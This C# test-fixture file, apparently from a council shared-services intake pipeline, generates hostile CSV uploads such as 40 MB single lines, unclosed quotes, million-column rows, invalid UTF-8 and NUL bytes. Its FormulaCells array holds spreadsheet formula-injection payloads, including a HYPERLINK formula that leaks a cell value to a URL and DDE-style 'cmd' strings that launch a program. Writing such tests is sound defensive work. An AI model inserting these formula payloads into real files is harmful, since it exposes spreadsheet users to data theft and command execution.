using System.Text;

namespace SharedServicesPipeline.HostileFiles;

/// <summary>
/// Hostile CSV submissions at the size of the intake's file limit (tens of MB, where the small shapes of the fuzz tests
/// cannot reach a bound): one line or one quoted field as long as the file, a million columns, binary data and
/// encodings that are not what they seem, formulas in every cell, millions of one-character rows.
/// </summary>
public static class HostileCsvCases
{
    public const string LineTooLong = "file.csv-line-too-long";
    public const string NotText = "file.csv-not-text";

    /// <summary>The header of a one-sheet return, as a council exports it.</summary>
    public const string Header = "Reference,Arrangement,Partners,Service area";

    private const int Mega = 1 << 20;
    private static readonly Encoding Utf8 = new UTF8Encoding(false);

    public static IReadOnlyList<HostileCase> All { get; } =
    [
        new("csv-structure", "40 MB on one line, no line end", "one-line.csv", () => Text(Header + "\r\nR01,", "Shared legal service ", 2 * Mega, ",x,y"), LineTooLong),
        new("csv-structure", "a quote opened and never closed, 40 MB of short lines inside it", "open-quote.csv",
            () => Text(Header + "\r\nR01,\"Shared legal service", "\r\nmore text for the field that never ends", Mega, ",Essex County Council,Legal\r\n"), LineTooLong) { Worst = true },
        new("csv-structure", "a million columns on each of 40 lines", "columns.csv",
            () => Text(Header + "\r\n", new string(',', Mega - 2) + "x\r\n", 40, ""), HostileCases.BeyondExcel),
        new("csv-structure", "20 million rows of one character (a reference and nothing else)", "one-char-rows.csv", () => Text(Header + "\r\n", "x\n", 20_000_000, ""), "file.no-arrangements"),
        new("csv-structure", "10 million arrangements named by one character", "one-char-arrangements.csv",
            () => Text(Header + "\r\n", ",x\n", 10_000_000, ""), HostileWorkCases.TooMuchWork),
        new("csv-structure", "a 1 MB cell on each of 40 lines", "huge-cells.csv",
            () => Text(Header + "\r\n", "R01," + new string('x', Mega - 40) + ",Essex County Council,Legal\r\n", 40, ""), null),

        new("csv-encoding", "34 MB of UTF-16 text without its byte-order mark", "utf16.csv",
            () => Encoding.Unicode.GetBytes(Lines(200_000)), NotText) { Worst = true },
        new("csv-encoding", "1 MB of invalid UTF-8 in the arrangements' names (lone continuation bytes, overlong forms, surrogates)", "invalid-utf8.csv", InvalidUtf8, null),
        new("csv-encoding", "a NUL byte on line 90,000 of an 8 MB export", "nul.csv",
            () => Utf8.GetBytes(Lines(100_000).Replace("service 89998,", "service\0 89998,", StringComparison.Ordinal)), NotText),
        new("csv-encoding", "NUL bytes all through: a binary file renamed .csv", "binary.csv",
            () => Utf8.GetBytes(Lines(1_000).Replace("Legal", "Le\0gal", StringComparison.Ordinal)), "file.not-a-spreadsheet"),
        new("csv-encoding", "a file of only a UTF-8 byte-order mark", "bom-only.csv", () => [0xEF, 0xBB, 0xBF], "file.no-header-row"),
        new("csv-encoding", "a file of only a UTF-16 byte-order mark", "bom16-only.csv", () => [0xFF, 0xFE], "file.no-header-row"),

        new("csv-formulas", "formulas in every cell of 10,000 rows (=HYPERLINK, +cmd, -, @SUM, tab, CR)", "formulas.csv", () => Utf8.GetBytes(Formulas(10_000)), null) { Worst = true },
    ];

    /// <summary>Cells a spreadsheet would run as formulas if written back as they came.</summary>
    public static readonly string[] FormulaCells =
    [
        "=HYPERLINK(\"http://127.0.0.1/?leak=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1",
    ];

    /// <summary>A header and <paramref name="rows"/> arrangements, each cell beginning as a formula.</summary>
    public static string Formulas(int rows)
    {
        var text = new StringBuilder(Header + "\r\n");
        for (var i = 0; i < rows; i++)
        {
            var f = FormulaCells[i % FormulaCells.Length];
            var g = FormulaCells[(i + 1) % FormulaCells.Length];
            text.Append(Quoted(f)).Append(',').Append(Quoted(g + " shared service " + i)).Append(',').Append(Quoted(f + "; Essex County Council")).Append(',').Append(Quoted(g)).Append("\r\n");
        }

        return text.ToString();
    }

    private static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static string Lines(int rows) =>
        Header + "\r\n" + string.Concat(Enumerable.Range(0, rows).Select(i => $"R{i},Shared legal service {i},Essex County Council; Slough Borough Council,Legal\r\n"));

    private static byte[] Text(string prefix, string unit, long count, string suffix)
    {
        using var output = new MemoryStream();
        output.Write(Utf8.GetBytes(prefix));
        var bytes = Utf8.GetBytes(unit);
        for (var i = 0L; i < count; i++)
        {
            output.Write(bytes);
        }

        output.Write(Utf8.GetBytes(suffix));
        return output.ToArray();
    }

    // Valid lines with invalid UTF-8 sequences in every cell: read as Windows-1252, never a fault.
    private static byte[] InvalidUtf8()
    {
        using var output = new MemoryStream();
        output.Write(Utf8.GetBytes(Header + "\r\n"));
        byte[][] invalid = [[0x80], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xFF, 0xFE], [0xE2, 0x82]];
        for (var i = 0; output.Length < Mega; i++)
        {
            output.Write(Utf8.GetBytes($"R{i},Shared "));
            output.Write(invalid[i % invalid.Length]);
            output.Write(invalid[(i + 3) % invalid.Length]);
            output.Write(Utf8.GetBytes(" service,Essex County Council; Slough Borough Council,Legal\r\n"));
        }

        return output.ToArray();
    }
}
